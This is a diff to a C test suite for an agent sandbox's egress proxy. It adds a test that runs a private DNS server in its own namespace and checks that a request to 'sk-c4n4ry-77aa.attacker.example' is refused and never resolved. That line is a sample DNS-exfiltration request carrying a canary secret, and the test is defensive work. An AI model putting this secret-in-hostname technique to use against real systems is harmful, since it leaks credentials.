@@ -18,6 +18,10 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <net/if.h>
+#include <sched.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/un.h>
@@ -1127,6 +1131,20 @@ START_TEST(test_proxy_foreign_peer)
 }
 END_TEST
 
+/* The override comes from the operator's environment, in test builds. */
+START_TEST(test_proxy_test_env)
+{
+	ck_assert_int_eq(unsetenv("CORRAL_TEST_EGRESS_HOSTS"), 0);
+	ck_assert_ptr_null(sbx_proxy_test_env());
+	ck_assert_int_eq(setenv("CORRAL_TEST_EGRESS_HOSTS", "", 1), 0);
+	ck_assert_ptr_null(sbx_proxy_test_env());
+	ck_assert_int_eq(setenv("CORRAL_TEST_EGRESS_HOSTS", "a.test=10.0.0.1",
+	    1), 0);
+	ck_assert_ptr_nonnull(sbx_proxy_test_env());
+	ck_assert_str_eq(sbx_proxy_test_env(), "a.test=10.0.0.1");
+}
+END_TEST
+
 START_TEST(test_proxy_start_refuses)
 {
 	static const char *const bad_allow[] = { "*:443", NULL };
@@ -1360,6 +1378,145 @@ START_TEST(test_proxy_forwarder_exit)
 END_TEST
 
 /* ------------------------------------------------------------------ */
+/* The host's resolver, watched: a DNS server of the test's own.       */
+
+struct dns {
+	uv_udp_t h;
+	char names[32][256];
+	int n;
+};
+
+static void
+dns_alloc(uv_handle_t *h, size_t hint, uv_buf_t *b)
+{
+	b->base = malloc(2048);
+	b->len = b->base != NULL ? 2048 : 0;
+}
+
+static void
+dns_sent(uv_udp_send_t *req, int status)
+{
+	free(req->data);
+	free(req);
+}
+
+/* Record the query's name; answer NXDOMAIN at once. */
+static void
+dns_recv(uv_udp_t *h, ssize_t n, const uv_buf_t *b,
+    const struct sockaddr *from, unsigned flags)
+{
+	struct dns *d = h->data;
+	size_t off = 12, o = 0;
+	char name[256];
+
+	if (n < 13 || from == NULL) {
+		free(b->base);
+		return;
+	}
+	while (off < (size_t)n && b->base[off] != 0 && o < sizeof name - 65) {
+		size_t l = (unsigned char)b->base[off++];
+
+		if (off + l > (size_t)n)
+			break;
+		if (o > 0)
+			name[o++] = '.';
+		memcpy(name + o, b->base + off, l);
+		o += l;
+		off += l;
+	}
+	name[o] = '\0';
+	if (d->n < 32)
+		snprintf(d->names[d->n++], sizeof d->names[0], "%s", name);
+	{
+		uv_udp_send_t *req = malloc(sizeof *req);
+		uv_buf_t out = uv_buf_init(b->base, (unsigned)n);
+
+		b->base[2] = (char)(0x80 | (b->base[2] & 0x79)); /* QR, RD */
+		b->base[3] = (char)0x83;	/* RA, NXDOMAIN */
+		memset(b->base + 6, 0, 6);	/* no answers */
+		req->data = b->base;
+		if (uv_udp_send(req, h, &out, 1, from, dns_sent) < 0) {
+			free(req);
+			free(b->base);
+		}
+	}
+}
+
+static void
+lo_up(void)
+{
+	struct ifreq ifr;
+	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+
+	ck_assert_int_ge(fd, 0);
+	memset(&ifr, 0, sizeof ifr);
+	snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "lo");
+	ck_assert_int_eq(ioctl(fd, SIOCGIFFLAGS, &ifr), 0);
+	ifr.ifr_flags |= IFF_UP;
+	ck_assert_int_eq(ioctl(fd, SIOCSIFFLAGS, &ifr), 0);
+	close(fd);
+}
+
+/*
+ * The production resolver (uv_getaddrinfo), pointed at a DNS server of
+ * the test's own in a network and mount namespace of its own: a denied
+ * secret-bearing name is never asked for; an allowed one is (the
+ * positive control), and its NXDOMAIN is a failure, not a violation.
+ */
+START_TEST(test_proxy_dns_host_side)
+{
+	static const char secret[] = "sk-c4n4ry-77aa";
+	static const char resolv[] = "nameserver 127.0.0.1\n"
+	    "options attempts:1 timeout:2\n";
+	struct sockaddr_in a;
+	struct client c;
+	struct dns d;
+	struct fx f;
+	char conf[4096], *dir, req[256];
+	bool asked_allowed = false;
+
+	ck_assert_int_eq(unshare(CLONE_NEWNS | CLONE_NEWNET), 0);
+	ck_assert_int_eq(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), 0);
+	lo_up();
+	dir = cu_tmpdir("proxy-dns");
+	snprintf(conf, sizeof conf, "%s/resolv.conf", dir);
+	ck_assert_int_eq(cu_write_file(conf, resolv, strlen(resolv)), 0);
+	ck_assert_int_eq(mount(conf, "/etc/resolv.conf", NULL, MS_BIND,
+	    NULL), 0);
+	fx_init(&f);
+	f.o.resolve = NULL;
+	f.o.dial = NULL;
+	memset(&d, 0, sizeof d);
+	uv_udp_init(&f.loop, &d.h);
+	d.h.data = &d;
+	uv_ip4_addr("127.0.0.1", 53, &a);
+	ck_assert_int_eq(uv_udp_bind(&d.h, (struct sockaddr *)&a, 0), 0);
+	ck_assert_int_eq(uv_udp_recv_start(&d.h, dns_alloc, dns_recv), 0);
+	fx_start(&f);
+	snprintf(req, sizeof req, "CONNECT %s.attacker.example:443 "
+	    "HTTP/1.1\r\n\r\n", secret);
+	client_run(&f, &c, req, NULL);
+	ck_assert_int_eq(c.status, 403);
+	client_run(&f, &c, "CONNECT rebind.test:443 HTTP/1.1\r\n\r\n", NULL);
+	ck_assert_int_eq(c.status, 502);
+	ck_assert_str_eq(c.body, "resolve-failed");
+	for (int i = 0; i < d.n; i++) {
+		ck_assert_msg(strstr(d.names[i], secret) == NULL,
+		    "the resolver asked for %s", d.names[i]);
+		if (strncmp(d.names[i], "rebind.test", 11) == 0)
+			asked_allowed = true;
+	}
+	ck_assert_msg(asked_allowed, "the resolver was never asked (%d)",
+	    d.n);
+	uv_close((uv_handle_t *)&d.h, NULL);
+	fx_done(&f);
+	umount("/etc/resolv.conf");
+	cu_rmrf(dir);
+	free(dir);
+}
+END_TEST
+
+/* ------------------------------------------------------------------ */
 /* The whole agent zone: bwrap plan + egress, curl inside.             */
 
 struct zone {
@@ -1546,11 +1703,13 @@ proxy_suite(void)
 	tcase_add_test(tc, test_proxy_socket_mode);
 	tcase_add_test(tc, test_proxy_foreign_peer);
 	tcase_add_test(tc, test_proxy_start_refuses);
+	tcase_add_test(tc, test_proxy_test_env);
 	suite_add_tcase(s, tc);
 	tcase_set_timeout(ti, 120);
 	tcase_add_test(ti, test_proxy_curl_forwarder);
 	tcase_add_test(ti, test_proxy_forwarder_exit);
 	tcase_add_test(ti, test_proxy_bwrap_zone);
+	tcase_add_test(ti, test_proxy_dns_host_side);
 	suite_add_tcase(s, ti);
 	return s;
 }
